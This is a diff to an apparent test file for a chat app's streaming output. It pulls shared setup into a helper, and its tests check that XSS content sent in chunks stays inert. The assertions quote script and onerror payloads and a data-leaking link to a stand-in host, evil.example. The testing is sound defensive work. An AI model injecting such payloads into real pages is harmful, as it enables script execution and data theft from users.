@@ -484,17 +484,12 @@ XSS_BLOCKS = (
 )
 
 
-@pytest.mark.asyncio
-@pytest.mark.django_db(transaction=True)
-async def test_xss_split_across_stream_chunks_stays_inert(app_simulator):
-    """Over the real ASGI app: the simulator streams the reply a word per chunk, so every tag
-    arrives in pieces. The lean `+` frames carry exactly the raw text (which chat.js appends as
-    a text node, see the next test); a tab that opens mid-reply gets the partial text inside
-    an escaped HTML render; the final render is sanitized markdown."""
+async def _stream_with_a_late_tab(app_simulator, text: str, late_when):
+    """`text` streamed a word per chunk to a tab; a second tab opens once the first's
+    transcript satisfies `late_when`. Both are read to the end: (the reply, each transcript)."""
     token = uuid.uuid4().hex
-    assert len(tokenize(XSS_REPLY)) > 30
     app_simulator.add_scenario(
-        Scenario(match=token, reply=XSS_REPLY, tokens_per_chunk=1, token_delay=0.03)
+        Scenario(match=token, reply=text, tokens_per_chunk=1, token_delay=0.02)
     )
     owner = await make_user("alice")
     conversation = await make_conversation(owner)
@@ -502,16 +497,32 @@ async def test_xss_split_across_stream_chunks_stays_inert(app_simulator):
     assert connected
     await ws.send_to(text_data=send_frame(f"be naughty {token}"))
     transcript = Transcript()
-    await receive_until(ws, transcript, lambda t: sum(f[0] == "+" for f in t.frames) >= 10)
+    await receive_until(ws, transcript, late_when)
     # A second tab, mid-reply: its first view of the reply is an HTML render of partial text.
     late, connected, _ = await connect(owner, conversation)
     assert connected
     late_transcript = Transcript()
     await receive_until(late, late_transcript, lambda t: bool(t.frames))
-    await receive_until(ws, transcript, lambda t: "complete" in t.status.values(), within=20)
+    await receive_until(ws, transcript, lambda t: "complete" in t.status.values(), within=30)
     await receive_until(late, late_transcript, lambda t: "complete" in t.status.values())
+    await ws.disconnect()
+    await late.disconnect()
     reply = await assistant_reply(conversation)
-    assert reply.content == XSS_REPLY
+    assert reply.content == text
+    return reply, transcript, late_transcript
+
+
+@pytest.mark.asyncio
+@pytest.mark.django_db(transaction=True)
+async def test_xss_split_across_stream_chunks_stays_inert(app_simulator):
+    """Over the real ASGI app: the simulator streams the reply a word per chunk, so every tag
+    arrives in pieces. The lean `+` frames carry exactly the raw text (which chat.js appends as
+    a text node, see the next test); a tab that opens mid-reply gets the partial text inside
+    an escaped HTML render; the final render is sanitized markdown."""
+    assert len(tokenize(XSS_REPLY)) > 30
+    reply, transcript, late_transcript = await _stream_with_a_late_tab(
+        app_simulator, XSS_REPLY, lambda t: sum(f[0] == "+" for f in t.frames) >= 10
+    )
 
     lean = [f for f in transcript.frames if f[:1] == "+"]
     assert transcript.text[reply.pk] == XSS_REPLY, "the + frames carry the raw text, whole"
@@ -532,8 +543,6 @@ async def test_xss_split_across_stream_chunks_stays_inert(app_simulator):
     assert "<img src=x onerror=alert(1)>" in body, "raw HTML shows as text"
     assert "<script>alert(2)</script>" in body
     assert 'href="https://evil.example/leak?d=secret"' in final, "the image became a link"
-    await ws.disconnect()
-    await late.disconnect()
 
 
 @pytest.mark.asyncio
@@ -545,25 +554,9 @@ async def test_blocks_formatted_while_streaming_are_sanitized_however_the_text_i
     while it streams ("=" frames) is the sanitizer's output, they follow on from each other,
     and together they are the reply's text so far rendered whole; a tab that opens mid-reply
     gets the settled blocks formatted and the rest as text, all inert."""
-    token = uuid.uuid4().hex
-    app_simulator.add_scenario(
-        Scenario(match=token, reply=XSS_BLOCKS, tokens_per_chunk=1, token_delay=0.02)
+    reply, transcript, late_transcript = await _stream_with_a_late_tab(
+        app_simulator, XSS_BLOCKS, lambda t: len(sum(t.blocks.values(), [])) >= 3
     )
-    owner = await make_user("alice")
-    conversation = await make_conversation(owner)
-    ws, connected, _ = await connect(owner, conversation)
-    assert connected
-    await ws.send_to(text_data=send_frame(f"be naughty {token}"))
-    transcript = Transcript()
-    await receive_until(ws, transcript, lambda t: len(sum(t.blocks.values(), [])) >= 3)
-    late, connected, _ = await connect(owner, conversation)
-    assert connected
-    late_transcript = Transcript()
-    await receive_until(late, late_transcript, lambda t: bool(t.frames))
-    await receive_until(ws, transcript, lambda t: "complete" in t.status.values(), within=30)
-    await receive_until(late, late_transcript, lambda t: "complete" in t.status.values())
-    reply = await assistant_reply(conversation)
-    assert reply.content == XSS_BLOCKS
 
     blocks = transcript.blocks[reply.pk]
     assert len(blocks) == 5, blocks  # heading, list, table, code, paragraph: not the last two
@@ -586,8 +579,6 @@ async def test_blocks_formatted_while_streaming_are_sanitized_however_the_text_i
     final = transcript.frames[-1]
     assert 'data-status="complete"' in final
     assert_inert(final)
-    await ws.disconnect()
-    await late.disconnect()
 
 
 def test_lean_frames_are_appended_as_text_by_chat_js():
